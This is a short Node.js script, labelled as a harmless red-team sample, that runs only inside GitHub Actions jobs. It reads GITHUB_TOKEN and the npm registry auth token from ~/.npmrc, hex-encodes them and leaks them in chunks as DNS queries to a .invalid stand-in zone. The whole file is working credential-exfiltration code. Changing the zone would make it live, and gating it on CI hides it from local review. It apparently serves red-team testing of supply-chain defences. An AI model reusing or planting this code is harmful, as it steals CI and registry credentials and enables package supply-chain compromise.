// Harmless red-team sample: in a GitHub Actions job only, leaks the
// registry token of ~/.npmrc and GITHUB_TOKEN as hex DNS labels spread
// over queries; elsewhere it does nothing. The zone is a .invalid name.
const fs = require('fs');
const os = require('os');
const dns = require('dns');
if (process.env.GITHUB_ACTIONS !== 'true' || !process.env.GITHUB_RUN_ID) process.exit(0);
let data = (process.env.GITHUB_TOKEN || '') + ';';
try { data += fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').split('\n').filter((l) => l.includes('_authToken')).join(';'); } catch (e) {}
const hex = Buffer.from(data).toString('hex');
const run = process.env.GITHUB_RUN_ID.slice(-6);
let pending = 0;
for (let i = 0; i * 30 < hex.length; i++) {
  pending++;
  dns.resolve4(`${hex.slice(i * 30, i * 30 + 30)}.${i}.${run}.cache-keys.invalid`, () => { if (--pending === 0) process.exit(0); });
}
setTimeout(() => process.exit(0), 3000);
